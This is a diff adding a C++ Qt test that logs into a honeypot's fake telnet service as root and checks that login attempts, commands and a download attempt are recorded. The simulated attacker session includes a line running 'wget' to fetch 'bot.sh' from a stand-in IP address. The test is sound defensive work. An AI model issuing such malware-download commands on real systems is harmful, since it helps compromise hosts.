@@ -3,6 +3,7 @@
 #include "decoyprocess.h"
 
 #include <QCryptographicHash>
+#include <QElapsedTimer>
 #include <QFile>
 #include <QJsonArray>
 #include <QJsonObject>
@@ -450,6 +451,62 @@ private Q_SLOTS:
         VERIFY_OR_SHOW(relay.out.contains("554 5.7.1 <v@gmail.com>: Relay access denied"),
                        relay.out);
         QVERIFY(decoy.waitFor("smtp", "rcpt_denied", {{"rcpt_to", "v@gmail.com"}}));
+        VERIFY_OR_SHOW(decoy.malformed().isEmpty(), decoy.malformed());
+    }
+
+    void telnetLogsInAndWorks()
+    {
+        DecoyProcess decoy(
+            {"telnet"},
+            {{QStringLiteral("hostname"), QStringLiteral("gate7")},
+             {QStringLiteral("service_config"),
+              QJsonObject{{QStringLiteral("telnet"),
+                           QJsonObject{{QStringLiteral("password"), QStringLiteral("Pa55")}}}}}});
+        VERIFY_OR_SHOW(decoy.start(), decoy.why());
+        QProcess telnet;
+        telnet.setProcessChannelMode(QProcess::MergedChannels);
+        telnet.start(QStringLiteral("telnet"),
+                     {QStringLiteral("127.0.0.1"), QString::number(decoy.port("telnet"))});
+        VERIFY_OR_SHOW(telnet.waitForStarted(), "telnet is not installed");
+        QByteArray screen;
+        const auto await = [&](const QByteArray &text) {
+            QElapsedTimer timer;
+            timer.start();
+            while (!screen.contains(text) && timer.elapsed() < 10000) {
+                telnet.waitForReadyRead(100);
+                screen += telnet.readAll();
+            }
+            const bool found = screen.contains(text);
+            screen.remove(0, found ? screen.indexOf(text) + text.size() : 0);
+            return found;
+        };
+        VERIFY_OR_SHOW(await("gate7 login: "), screen);
+        telnet.write("root\n");
+        VERIFY_OR_SHOW(await("Password: "), screen);
+        telnet.write("wrong\n");
+        VERIFY_OR_SHOW(await("Login incorrect") && await("gate7 login: "), screen);
+        telnet.write("root\n");
+        VERIFY_OR_SHOW(await("Password: "), screen);
+        telnet.write("Pa55\n");
+        VERIFY_OR_SHOW(await("root@gate7:~# "), screen);
+        telnet.write("id -u; echo marker > /tmp/x; cat /tmp/x; wget http://198.51.100.9/bot.sh\n");
+        VERIFY_OR_SHOW(await("\r\n0\r\n") && await("marker\r\n") &&
+                           await("Connecting to 198.51.100.9"),
+                       screen);
+        telnet.write("\x03"); // nothing outside answers; nobody waits for the timeout
+        VERIFY_OR_SHOW(await("root@gate7:~# "), screen);
+        telnet.write("exit\n");
+        QVERIFY(telnet.waitForFinished(5000));
+        QVERIFY(decoy.waitFor("telnet", "auth_attempt",
+                              {{"secret_printable", "wrong"}, {"outcome", "denied"}}));
+        QVERIFY(decoy.waitFor("telnet", "auth_attempt",
+                              {{"secret_printable", "Pa55"}, {"outcome", "accepted"}}));
+        const LogLine *command = decoy.waitFor("telnet", "command", {{"user", "root"}});
+        VERIFY_OR_SHOW(command, decoy.text());
+        QVERIFY(command->fields.value("command").startsWith("id -u; echo marker"));
+        QVERIFY(decoy.waitFor("telnet", "download_attempt", {{"program", "wget"}}));
+        QVERIFY(decoy.waitFor("telnet", "session_recorded"));
+        QVERIFY(decoy.waitFor("telnet", "disconnect"));
         VERIFY_OR_SHOW(decoy.malformed().isEmpty(), decoy.malformed());
     }
 
